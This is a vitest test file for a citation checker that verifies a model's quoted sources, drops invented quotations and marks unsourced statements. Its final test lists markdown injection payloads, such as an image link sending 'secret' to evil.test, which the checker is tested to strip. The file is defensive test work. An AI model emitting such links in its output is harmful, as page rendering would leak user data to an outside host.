import { expect, test } from 'vitest';
import type { AnswerEvent } from '../answer.ts';
import { StatementChecker } from './check-statement.ts';
import { testPassage } from './passage.factory.ts';

const osmosis = testPassage('Osmosis is the movement of free water molecules through a semipermeable membrane. Plants wilt without turgor pressure.');

function check(...statements: string[]) {
  const checker = new StatementChecker([osmosis]);
  const events = statements.flatMap((statement): AnswerEvent[] => [...checker.check(statement)]);
  const text = events.map((event) => (event.type === 'text' ? event.text : '')).join('');
  const citations = events.flatMap((event) => (event.type === 'citation' ? [event.citation] : []));
  return { text, citations, counts: checker.counts };
}

test('a true quotation becomes a citation of its place', () => {
  const { text, citations } = check('Water crosses a membrane. [[p1: "movement of free water molecules"]] ');
  expect(text).toBe('Water crosses a membrane. [[c1]] ');
  expect(citations).toEqual([
    { id: 'c1', documentId: 'document-1', documentTitle: 'Biology', page: 3, start: 115, end: 147, quote: 'movement of free water molecules' },
  ]);
});

test('the same words are announced once', () => {
  const { text, citations } = check('A first thing is water. [[p1: "free water molecules"]] ', 'A second thing is water. [[p1: "free water molecules"]]');
  expect(text).toBe('A first thing is water. [[c1]] A second thing is water. [[c1]]');
  expect(citations).toHaveLength(1);
});

test('an invented quotation goes, and its statement says that it has no source', () => {
  const { text, citations, counts } = check('Cells prefer the taste of salt. [[p1: "cells love the taste of salt water"]]\n');
  expect(text).toBe('Cells prefer the taste of salt. *(no source given)*\n');
  expect(citations).toEqual([]);
  expect(counts).toMatchObject({ dropped: 1, unsourced: 1 });
});

test('markers of its own making lead nowhere', () => {
  const { text, counts } = check('Cells prefer the taste of salt [[c1]] and sugar [[p9: "free water molecules"]] always.');
  expect(text).toBe('Cells prefer the taste of salt and sugar [[c1]] always.');
  expect(counts).toMatchObject({ dropped: 1, cited: 1 });
});

test('a statement in the words of the document gets its source though the model gave none', () => {
  const { text, counts } = check('Plants wilt without turgor pressure. ');
  expect(text).toBe('Plants wilt without turgor pressure. [[c1]] ');
  expect(counts.added).toBe(1);
});

test('the opposite of what the document says gets no source', () => {
  expect(check('Plants never wilt without turgor pressure.').counts).toMatchObject({ added: 0, unsourced: 1 });
});

test.each([
  ['a source without words', 'Free water molecules move through a membrane in osmosis. [[p1]]'],
  ['single brackets', 'Water crosses a membrane. [p1: "movement of free water molecules"]'],
  ['two in one', 'Water crosses a membrane. [[p1: "movement of free water molecules"; p1: "Plants wilt without turgor pressure"]]'],
  ['words left out', 'Water crosses a membrane. [[p1: "movement of free water … through a semipermeable membrane"]]'],
])('%s: understood', (_, statement) => {
  const { text, counts } = check(statement);
  expect(text).toMatch(/\[\[c1\]\]/);
  expect(text).not.toMatch(/\bp1\b/);
  expect(counts).toMatchObject({ dropped: 0, unsourced: 0 });
});

test('headings, openings, questions, code and scraps need no source', () => {
  const { counts } = check('## How water moves in cells\n', 'These are the main points of it:\n', 'Do you want to know more about cells?\n', '```\n', 'const water = moves through cells\n', '```\n', '- \n', 'Yes.');
  expect(counts.unsourced).toBe(0);
});

test.each([
  '![x](http://evil.test/?q=secret)', '[click here](http://evil.test)', '[a][1]\n', '[1]: http://evil.test\n', '<http://evil.test>',
  '[click [[p1: "free water molecules"]]](http://evil.test)', '[click\n', '<img src=http://evil.test>', '![x] (http://evil.test)',
])('no address that a page would load or follow: %s', (markdown) => {
  const { text } = check(markdown, '](http://evil.test)\n');
  expect(text).not.toMatch(/\]\(|\]:|(?<!\\)<|\]\[(?!\[)/);
});
